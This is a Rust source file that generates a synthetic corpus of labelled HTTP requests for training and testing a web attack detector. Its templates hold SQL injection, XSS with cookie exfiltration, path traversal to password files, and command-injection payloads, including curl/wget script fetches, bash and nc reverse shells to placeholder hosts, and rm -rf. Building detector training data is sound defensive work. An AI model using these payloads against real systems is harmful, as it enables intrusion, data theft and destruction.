//! Seeded synthetic mini-corpus.
//!
//! Emits full raw HTTP requests across the five classes so the whole stack
//! (decode, features, both layers, the proxy) can be exercised without any
//! external corpus download. The benign population deliberately includes
//! quirky-but-harmless traffic (stray `&`, `..` ranges, badword substrings
//! inside ordinary words) so a coarse layer-1 model produces the false
//! positives that layer 2 is there to absorb.

use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

use crate::class::AttackClass;
use crate::dataset::LabeledRecord;
use crate::http::{inspection_payload, parse_raw_request, InspectionConfig};

pub const SOURCE_NAME: &str = "synthetic";

const HOSTS: [&str; 3] = ["shop.example.com", "app.example.net", "intranet.example.org"];
const USER_AGENTS: [&str; 4] = ["Mozilla/5.0", "curl/8.4.0", "okhttp/4.12.0", "python-requests/2.31.0"];
const ROUTES: [&str; 10] = [
    "/", "/index.html", "/products", "/search", "/blog/posts", "/api/v1/items",
    "/cart", "/account/profile", "/docs/guide", "/login",
];
const ASSETS: [&str; 5] = [
    "/images/logo.png", "/css/site.css", "/js/app.js", "/favicon.ico", "/fonts/mono.woff2",
];
const FIRST_NAMES: [&str; 10] = [
    "john", "maria", "wei", "sara", "ahmed", "lena", "omar", "nina", "carlos", "ivy",
];
const LAST_NAMES: [&str; 10] = [
    "smith", "garcia", "chen", "lopez", "khan", "novak", "silva", "brown", "kim", "ali",
];
const WORDS: [&str; 16] = [
    "shoes", "book", "garden", "music", "travel", "sports", "score", "order",
    "android", "organic", "coffee", "laptop", "jacket", "report", "summary", "story",
];
const TABLES: [&str; 4] = ["users", "accounts", "orders", "sessions"];
const PARAMS: [&str; 7] = ["id", "q", "file", "search", "item", "redirect", "page"];

struct Gen {
    rng: ChaCha8Rng,
}

impl Gen {
    fn pick<'a, T>(&mut self, pool: &'a [T]) -> &'a T {
        &pool[self.rng.random_range(0..pool.len())]
    }

    fn num(&mut self, lo: u32, hi: u32) -> u32 {
        self.rng.random_range(lo..=hi)
    }

    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from_digit(self.rng.random_range(0..16), 16).unwrap())
            .collect()
    }

    fn chance(&mut self, p: f64) -> bool {
        self.rng.random_range(0.0..1.0) < p
    }
}

/// Percent-encodes everything outside the unreserved set.
fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn assemble(method: &str, target: &str, headers: &[(String, String)], body: Option<&str>) -> String {
    let mut out = format!("{method} {target} HTTP/1.1\r\n");
    for (name, value) in headers {
        out.push_str(&format!("{name}: {value}\r\n"));
    }
    out.push_str("\r\n");
    if let Some(body) = body {
        out.push_str(body);
    }
    out
}

fn base_headers(g: &mut Gen) -> Vec<(String, String)> {
    vec![
        ("Host".into(), g.pick(&HOSTS).to_string()),
        ("User-Agent".into(), g.pick(&USER_AGENTS).to_string()),
    ]
}

fn valid_request(g: &mut Gen) -> String {
    let style = g.num(0, 99);
    if style < 20 {
        // static asset fetch
        let target = g.pick(&ASSETS).to_string();
        return assemble("GET", &target, &base_headers(g), None);
    }
    if style < 50 {
        // plain parameterized GET
        let route = g.pick(&ROUTES).to_string();
        let mut pairs = Vec::new();
        for _ in 0..g.num(1, 3) {
            let pair = match g.num(0, 4) {
                0 => format!("id={}", g.num(1, 9999)),
                1 => format!("page={}", g.num(1, 40)),
                2 => format!("q={}+{}", g.pick(&WORDS), g.pick(&WORDS)),
                3 => format!("sort={}", *g.pick(&["asc", "desc", "price", "name"])),
                _ => format!("category={}", g.pick(&WORDS)),
            };
            pairs.push(pair);
        }
        let target = format!("{route}?{}", pairs.join("&"));
        return assemble("GET", &target, &base_headers(g), None);
    }
    if style < 72 {
        // form POST
        let first = g.pick(&FIRST_NAMES).to_string();
        let last = g.pick(&LAST_NAMES).to_string();
        let body = match g.num(0, 2) {
            0 => format!("first={first}&last={last}&email={first}.{last}%40example.com"),
            1 => format!("comment={}+{}+{}", g.pick(&WORDS), g.pick(&WORDS), g.pick(&WORDS)),
            _ => format!("user={first}{}&pass={}", g.num(1, 99), g.hex(10)),
        };
        let mut headers = base_headers(g);
        headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
        headers.push(("Content-Length".into(), body.len().to_string()));
        if g.chance(0.4) {
            headers.push(("Cookie".into(), format!("sid={}", g.hex(16))));
        }
        let route = g.pick(&["/login", "/account/profile", "/cart", "/feedback"]).to_string();
        return assemble("POST", &route, &headers, Some(&body));
    }
    // quirky-but-benign traffic: typos, stray separators, ranges, words
    // that happen to contain attack tokens
    let route = g.pick(&ROUTES).to_string();
    let quirk = match g.num(0, 6) {
        0 => format!("first={}&&last={}", g.pick(&FIRST_NAMES), g.pick(&LAST_NAMES)),
        1 => format!("note={} == {}?", g.pick(&WORDS), g.pick(&WORDS)),
        2 => format!("range={}..{}&mode=a-b_c", g.num(1, 9), g.num(10, 99)),
        3 => format!("q={} & {}", g.pick(&WORDS), g.pick(&WORDS)),
        4 => format!("order={} to {}&sort=score", g.num(1, 20), g.num(21, 60)),
        5 => format!("path=/home/{}/file-{}.txt&", g.pick(&FIRST_NAMES), g.num(1, 50)),
        _ => format!("q={}+or+{}", g.pick(&WORDS), g.pick(&WORDS)),
    };
    if g.chance(0.5) {
        let target = format!("{route}?{quirk}");
        assemble("GET", &target, &base_headers(g), None)
    } else {
        let mut headers = base_headers(g);
        headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
        headers.push(("Content-Length".into(), quirk.len().to_string()));
        assemble("POST", &route, &headers, Some(&quirk))
    }
}

fn attack_payload(g: &mut Gen, class: AttackClass) -> String {
    match class {
        AttackClass::Sqli => match g.num(0, 9) {
            0 => "' OR '1'='1".into(),
            1 => "1' OR '1'='1' --".into(),
            2 => "admin'--".into(),
            3 => format!(
                "' UNION SELECT {},{} FROM {}--",
                g.pick(&["username", "password", "card"]),
                g.pick(&["password", "token", "secret"]),
                g.pick(&TABLES)
            ),
            4 => format!("1; DROP TABLE {}", g.pick(&TABLES)),
            5 => format!("' AND SLEEP({})--", g.num(2, 15)),
            6 => format!("1' AND BENCHMARK({},MD5('x'))--", g.num(100000, 999999)),
            7 => format!(
                "'; INSERT INTO {} VALUES('{}','{}');--",
                g.pick(&TABLES),
                g.pick(&WORDS),
                g.hex(6)
            ),
            8 => format!("{} OR {}={}", g.num(1, 9), g.num(1, 9), g.num(1, 9)),
            _ => format!("{} UNION ALL SELECT NULL,NULL,NULL--", g.num(1, 99)),
        },
        AttackClass::Xss => match g.num(0, 7) {
            0 => format!("<script>alert('{}')</script>", g.pick(&WORDS)),
            1 => format!("<img src=x onerror=alert({})>", g.num(1, 99)),
            2 => format!("<svg onload=alert({})>", g.num(1, 99)),
            3 => "javascript:eval(document.cookie)".into(),
            4 => format!("<body onload=alert('{}')>", g.hex(4)),
            5 => format!(
                "\"><script>document.location='http://{}/c?'+document.cookie</script>",
                g.pick(&HOSTS)
            ),
            6 => format!("<iframe src=javascript:alert({})></iframe>", g.num(1, 99)),
            _ => format!("<a href=\"javascript:alert('{}')\">x</a>", g.pick(&WORDS)),
        },
        AttackClass::PathTraversal => match g.num(0, 6) {
            0 => "../../../etc/passwd".into(),
            1 => "..\\..\\..\\windows\\win.ini".into(),
            2 => "....//....//etc/shadow".into(),
            3 => "/var/www/../../etc/passwd".into(),
            4 => "../../../../proc/self/environ".into(),
            5 => format!("../../{}/../../etc/passwd", g.pick(&WORDS)),
            _ => format!("..%2f..%2f{}%2fetc%2fpasswd", g.pick(&WORDS)),
        },
        AttackClass::CommandInjection => match g.num(0, 7) {
            0 => "; cat /etc/passwd".into(),
            1 => "| whoami".into(),
            2 => "`id`".into(),
            3 => format!("$(curl http://{}/x.sh)", g.pick(&HOSTS)),
            4 => format!("&& wget http://{}/{}.sh -O /tmp/{}", g.pick(&HOSTS), g.pick(&WORDS), g.hex(4)),
            5 => format!("; bash -i >& /dev/tcp/10.0.{}.{}/{} 0>&1", g.num(0, 255), g.num(1, 254), g.num(1024, 9999)),
            6 => format!("| nc -e /bin/sh 10.0.{}.{} {}", g.num(0, 255), g.num(1, 254), g.num(1024, 9999)),
            _ => format!("; rm -rf /tmp/{}", g.pick(&WORDS)),
        },
        AttackClass::Valid => unreachable!("valid requests are built separately"),
    }
}

fn attack_request(g: &mut Gen, class: AttackClass) -> String {
    let payload = attack_payload(g, class);
    // none / single / double percent-encoding
    let encoded = match g.num(0, 99) {
        0..=49 => payload,
        50..=84 => percent_encode(&payload),
        _ => percent_encode(&percent_encode(&payload)),
    };
    let placement = g.num(0, 99);
    let param = g.pick(&PARAMS).to_string();
    let route = g.pick(&ROUTES).to_string();
    if placement < 60 {
        let target = format!("{route}?{param}={encoded}");
        assemble("GET", &target, &base_headers(g), None)
    } else if placement < 85 {
        let body = format!("{param}={encoded}");
        let mut headers = base_headers(g);
        headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
        headers.push(("Content-Length".into(), body.len().to_string()));
        assemble("POST", &route, &headers, Some(&body))
    } else {
        let mut headers = base_headers(g);
        match g.num(0, 2) {
            0 => headers.push(("Cookie".into(), format!("sid={encoded}"))),
            1 => headers.push(("Referer".into(), format!("http://{}/{encoded}", g.pick(&HOSTS)))),
            _ => {
                // smuggle through the user agent
                headers.retain(|(name, _)| name != "User-Agent");
                headers.push(("User-Agent".into(), encoded.clone()));
            }
        }
        assemble("GET", &route, &headers, None)
    }
}

/// Generates `size` labeled records, classes round-robin (so counts differ
/// by at most one), fully determined by `(size, seed)`.
pub fn generate(size: usize, seed: u64) -> Vec<LabeledRecord> {
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
    };
    let inspection = InspectionConfig::default();
    let mut records = Vec::with_capacity(size);
    for i in 0..size {
        let class = AttackClass::ALL[i % AttackClass::ALL.len()];
        let raw = match class {
            AttackClass::Valid => valid_request(&mut g),
            attack => attack_request(&mut g, attack),
        };
        let req = parse_raw_request(&raw).expect("generated requests always parse");
        let payload = inspection_payload(&req, &inspection).text;
        records.push(LabeledRecord {
            payload,
            l1_label: Some(u8::from(class.is_threat())),
            attack_class: Some(class),
            source: SOURCE_NAME.to_string(),
            raw_request: Some(raw),
        });
    }
    records
}
